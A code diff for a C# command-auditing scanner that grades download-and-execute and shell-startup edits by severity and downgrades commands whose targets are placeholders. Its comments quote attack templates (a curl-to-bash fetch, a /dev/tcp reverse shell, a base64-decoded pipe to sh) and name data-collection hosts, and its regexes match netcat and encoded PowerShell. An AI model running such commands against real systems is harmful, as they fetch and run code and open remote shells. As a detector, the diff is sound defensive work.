@@ -19,7 +19,7 @@ public static partial class Origins
         "sdk.cloud.google.com", "awscli.amazonaws.com", "fly.io", "deb.nodesource.com", "rpm.nodesource.com", "get.rvm.io", "mise.run", "get.jetpack.io",
         "install.duckdb.org", "cli.doppler.com", "get.pulumi.com", "get.sdkman.io", "bitwarden.com", "1password.com", "cli.vercel.com", "supabase.com",
         "repo.anaconda.com", "repo.continuum.io", "github.com/conda-forge/miniforge/", "dl.k8s.io", "raw.githubusercontent.com/aquasecurity/",
-        "raw.githubusercontent.com/anchore/", "get.trunk.io", "install.terraform.io",
+        "raw.githubusercontent.com/anchore/", "get.trunk.io", "install.terraform.io", "firebase.tools",
     ];
 
     /// <summary>download-exec: medium from a vendor's documented installer host, critical from anywhere else.</summary>
@@ -34,6 +34,11 @@ public static partial class Origins
             host = Url().Match(text[match.Index..(end < 0 ? text.Length : end)]);
         }
 
+        if (IsTemplate(match.Value))
+        {
+            return AuditSeverity.Low;
+        }
+
         var target = host.Success ? host.Groups["target"].Value : match.Value;
         if (Untrusted().IsMatch(target))
         {
@@ -44,6 +49,45 @@ public static partial class Origins
             ? AuditSeverity.Medium
             : AuditSeverity.Critical;
     }
+
+    /// <summary>
+    /// A command whose target is a placeholder (<c>curl http://&lt;ip&gt;/x | bash</c>, <c>bash -i &gt;&amp; /dev/tcp/&lt;ip&gt;/&lt;port&gt;</c>,
+    /// <c>echo '&lt;base64&gt;' | base64 -d | sh</c>) is the shape of an attack a scanner matches, not one that can run.
+    /// </summary>
+    public static bool IsTemplate(string command) => Template().IsMatch(command);
+
+    /// <summary>A critical command, low as a <see cref="IsTemplate">template</see>.</summary>
+    public static AuditSeverity? JudgeTemplate(string text, Match match)
+    {
+        return IsTemplate(LineJudges.LineOf(text, match.Index)) ? AuditSeverity.Low : AuditSeverity.Critical;
+    }
+
+    [GeneratedRegex(@"(?:://|/dev/(?:tcp|udp)/|\becho\s+['""]?|<<<\s*['""]?|-(?:EncodedCommand|enc|e)\s+|\bnc\s+(?:-\w+\s+)*)<[\w .…|-]{1,30}>", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex Template();
+
+    /// <summary>
+    /// A collection service's host alone in quotes (<c>"webhook.site"</c>, <c>'requestbin.net'</c>) is an entry of a
+    /// list, a guard's blocklist or a scanner's indicators: no request goes to a host without a path.
+    /// </summary>
+    public static bool IsQuotedHost(string text, Match match)
+    {
+        if (match.Value.AsSpan().IndexOfAny(":/") >= 0)
+        {
+            return false;
+        }
+
+        var end = match.Index + match.Length;
+        while (end < text.Length && (char.IsAsciiLetterOrDigit(text[end]) || text[end] is '.' or '-'))
+        {
+            end++;
+        }
+
+        return match.Index > 0 && text[match.Index - 1] is '"' or '\'' or '`' && end < text.Length && text[end] == text[match.Index - 1];
+    }
+
+    /// <summary>A collection service named: low as a host alone in quotes (<see cref="IsQuotedHost"/>), otherwise as <see cref="JudgeLink"/> judges it.</summary>
+    public static AuditSeverity? JudgeEndpoint(string text, Match match) =>
+        IsQuotedHost(text, match) ? AuditSeverity.Low : JudgeLink(text, match);
 
     /// <summary>A link that is a placeholder (<c>YOUR_ID</c>, <c>&lt;your-url&gt;</c>, <c>…</c>) or an image is configuration or decoration, not a sink.</summary>
     public static AuditSeverity? JudgeLink(string text, Match match)
@@ -232,6 +276,12 @@ public static partial class LineJudges
 
         if (StartupFile().IsMatch(match.Value))
         {
+            // "~/dotfiles/<package>/.zshrc": the '>' closes a placeholder, it redirects nothing.
+            if (match.Value.StartsWith('>') && ClosesPlaceholder().IsMatch(text.AsSpan(Math.Max(0, match.Index - 40), Math.Min(40, match.Index))))
+            {
+                return null;
+            }
+
             return ConfigurationOnly().IsMatch(line) ? null : AuditSeverity.High;
         }
 
@@ -339,7 +389,7 @@ public static partial class LineJudges
         return char.IsSurrogate(c) || c is >= '\u2600' and <= '\u27BF' or '\uFE0F' or >= '\u2640' and <= '\u2642';
     }
 
-    private static string LineOf(string text, int offset)
+    internal static string LineOf(string text, int offset)
     {
         var start = offset == 0 ? 0 : text.LastIndexOf('\n', offset - 1) + 1;
         var end = text.IndexOf('\n', offset);
@@ -349,6 +399,9 @@ public static partial class LineJudges
     [GeneratedRegex(@"\.(?:bashrc|zshrc|profile|bash_profile|zprofile|bash_login|zlogin)\b")]
     private static partial Regex StartupFile();
 
-    [GeneratedRegex(@"^\s*(?:echo|printf)\s+['""]?\s*(?:export\s+\w+=|alias\s|source\s|\.\s|PATH=|eval\s+""?\$\(\w[\w-]*\s+(?:init|env|completion)|fpath|autoload|#)", RegexOptions.IgnoreCase)]
+    [GeneratedRegex(@"<[\w.-]+$")]
+    private static partial Regex ClosesPlaceholder();
+
+    [GeneratedRegex(@"(?:^|\|\||&&|;)\s*(?:echo|printf)\s+['""]?\s*(?:export\s+\w+=|alias\s|source\s|\.\s|PATH=|eval\s+\\?""?\$\((?:[\w./-]*/)?\w[\w-]*\s+(?:init|env|shellenv|completion|hook|activate)|fpath|autoload|#|for\s+\w+\s+in\s+[~$][^;'""]*;\s*do\s+(?:source|\.)\s)", RegexOptions.IgnoreCase)]
     private static partial Regex ConfigurationOnly();
 }
